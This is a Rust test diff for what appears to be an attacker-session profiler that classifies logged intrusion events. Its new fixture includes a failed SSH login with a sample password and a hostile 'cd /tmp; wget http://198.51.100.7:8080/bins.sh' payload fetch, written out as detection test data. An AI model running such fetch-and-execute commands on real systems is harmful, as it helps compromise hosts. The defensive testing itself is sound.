@@ -119,10 +119,30 @@ fn risk_is_the_sum_of_its_terms_and_grows_with_what_is_done() {
     let whole = made(&rows);
     assert_eq!((whole.phase(), whole.urls.len(), whole.payloads.count()), (Phase::Exfil, 1, 1));
     let kinds: Vec<_> = whole.traits().iter().map(|one| one.kind).collect();
-    for kind in
-        [TraitKind::Loot, TraitKind::Principal, TraitKind::Host, TraitKind::Payload, TraitKind::Network]
-    {
+    for kind in [TraitKind::Loot, TraitKind::Host, TraitKind::Payload, TraitKind::Network] {
         assert!(kinds.contains(&kind), "{kind}: {kinds:?}");
+    }
+    // The name of a login that works was found with it; and nothing was fetched from the attacker himself.
+    for kind in [TraitKind::Principal, TraitKind::Spread] {
+        assert!(!kinds.contains(&kind), "{kind}: {kinds:?}");
+    }
+}
+
+#[test]
+fn a_worm_is_who_fetches_from_himself() {
+    let tried = [("principal", "svc-x"), ("secret_printable", "Qr7!wint4"), ("outcome", "rejected")];
+    for (kind, field, value) in [
+        ("download_attempt", "url", "http://198.51.100.7/x.sh"),
+        ("command", "command", "cd /tmp; wget http://198.51.100.7:8080/bins.sh"),
+    ] {
+        let profile = made(&[
+            row(1, 0, "web-01", "ssh", "auth_attempt", &tried),
+            row(2, SECOND, "web-01", "ssh", kind, &[(field, value)]),
+        ]);
+        let kinds: Vec<_> = profile.traits().iter().map(|one| one.kind).collect();
+        for kind in [TraitKind::Spread, TraitKind::Host, TraitKind::Pair, TraitKind::Principal] {
+            assert!(kinds.contains(&kind), "{kind}: {kinds:?}");
+        }
     }
 }
 
